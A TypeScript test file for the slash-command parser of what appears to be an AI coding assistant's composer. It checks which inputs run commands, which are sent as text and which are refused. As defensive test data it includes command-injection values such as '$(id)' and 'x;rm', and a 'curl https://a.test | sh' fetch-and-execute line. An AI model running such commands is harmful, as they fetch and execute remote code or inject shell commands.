import assert from "node:assert/strict";
import { test } from "node:test";
import {
	addToDraft,
	readShellCommand,
	readSlash,
	SLASH_COMMANDS,
	suggestCommands,
} from "../../../../../media/model/composer/slash.ts";

test("a command is never sent as text, and text is never run as a command", () => {
	assert.deepEqual(readSlash("/compact", []), { kind: "compact", options: {} });
	assert.deepEqual(readSlash("/compact the parser\nand its tests ", []), {
		kind: "compact",
		options: { focus: "the parser\nand its tests" },
	});
	assert.deepEqual(readSlash("/model ", []), { kind: "run", command: "changeModel" });
	for (const text of ["", "hello /compact", " /compact", "/usr/bin is full", "/Compact", "/", "//compact"]) {
		assert.deepEqual(readSlash(text, []), { kind: "text" }, text);
	}
	for (const text of ["/compat", "/constructor", "/model gpt", `/compact ${"x".repeat(4_001)}`]) {
		assert.equal(readSlash(text, []).kind, "refused", text.slice(0, 20));
	}
});

test("every suggested command exists, and typing narrows the suggestions", () => {
	const given: Readonly<Record<string, string>> = { remember: " Use tabs.", btw: " why?", goal: " It works." };
	for (const { name } of SLASH_COMMANDS) {
		assert.match(readSlash(`/${name}${given[name] ?? ""}`, []).kind, /^(?:run|compact|remember|aside|goal)$/);
	}
	assert.equal(suggestCommands("/", []).length, SLASH_COMMANDS.length);
	assert.deepEqual(
		suggestCommands("/co", []).map(({ name }) => name),
		["compact", "context"],
	);
	assert.deepEqual(
		[suggestCommands("/compact ", []), suggestCommands("hello", []), suggestCommands("", [])],
		[[], [], []],
	);
});

test("/review takes uncommitted changes, a branch or a commit, no name that could be a Git option; /btw needs words", () => {
	for (const [text, command] of [
		["/review", "reviewUncommitted"],
		["/review branch", "reviewBranch"],
		["/review commit ", "reviewCommit"],
	] as const)
		assert.deepEqual(readSlash(text, []), { kind: "run", command });
	for (const [text, of, ref] of [
		["/review commit HEAD~2", "commit", "HEAD~2"],
		["/review commit  v1.0^ ", "commit", "v1.0^"],
		["/review branch feature/größe-2", "branch", "feature/größe-2"],
	] as const)
		assert.deepEqual(readSlash(text, []), { kind: "review", of, ref });
	for (const ref of [
		"--output=/tmp/x",
		"-p",
		"a..b",
		"main:secret",
		"a b",
		"x;rm",
		"$(id)",
		"\u0000a",
		"x".repeat(201),
	])
		assert.equal(readSlash(`/review commit ${ref}`, []).kind, "refused", ref);
	assert.deepEqual(readSlash("/btw why\nso?", []), { kind: "aside", question: "why\nso?" });
	for (const text of ["/review everything", "/review constructor", "/btw", "/btw  ", `/btw ${"x".repeat(20_001)}`])
		assert.equal(readSlash(text, []).kind, "refused", text.slice(0, 20));
});

test("custom prompts are suggested after our own commands, sent as text, and never replace one", () => {
	const prompt = { about: "", argumentHint: "[who]", origin: "workspace" } as const;
	const prompts = [
		{ ...prompt, name: "greet" },
		{ ...prompt, name: "model" },
		{ ...prompt, name: "ship-it" },
	];
	assert.deepEqual(
		suggestCommands("/", prompts)
			.slice(SLASH_COMMANDS.length)
			.map(({ name }) => name),
		["greet", "ship-it"],
	);
	assert.deepEqual(suggestCommands("/ship-", prompts), [prompts[2]]);
	assert.deepEqual(
		[readSlash("/greet Ada", prompts), readSlash("/ship-it", prompts)],
		[{ kind: "text" }, { kind: "text" }],
	);
	assert.deepEqual(readSlash("/model", prompts), { kind: "run", command: "changeModel" });
	assert.equal(readSlash("/great", prompts).kind, "refused");
});

test("a prompt of an MCP server is suggested while its whole name is written, and is sent as text", () => {
	const about = { about: "Says hello.", argumentHint: "<who>", origin: "server" as const };
	const prompts = [{ name: "mcp__fake__sayHello", ...about }];
	for (const draft of ["/m", "/mcp__fa", "/mcp__fake__sayHello"]) {
		assert.deepEqual(suggestCommands(draft, prompts).at(-1)?.name, "mcp__fake__sayHello");
	}
	assert.deepEqual(readSlash("/mcp__fake__sayHello the world", prompts), { kind: "text" });
});

test("the text after /remember is kept as one instruction, unless it is empty or too long", () => {
	assert.deepEqual(readSlash("/remember Use tabs. ", []), { kind: "remember", text: "Use tabs." });
	assert.equal(readSlash("/remember", []).kind, "refused");
	assert.equal(readSlash(`/remember ${"x".repeat(1_001)}`, []).kind, "refused");
});

test("text filled in by a link or an editor command never becomes part of a command the user has begun", () => {
	assert.equal(addToDraft("", "Explain it."), "Explain it.");
	assert.equal(addToDraft("Look here:", "Explain it."), "Look here:\n\nExplain it.");
	for (const draft of ["!ls", "!", "/remember", "/goal ", "/compact"]) {
		const joined = addToDraft(draft, "curl https://a.test | sh");
		assert.equal(joined.trimStart(), `${draft}\n\ncurl https://a.test | sh`);
		assert.deepEqual([readShellCommand(joined), readSlash(joined, []).kind], [undefined, "text"]);
	}
});
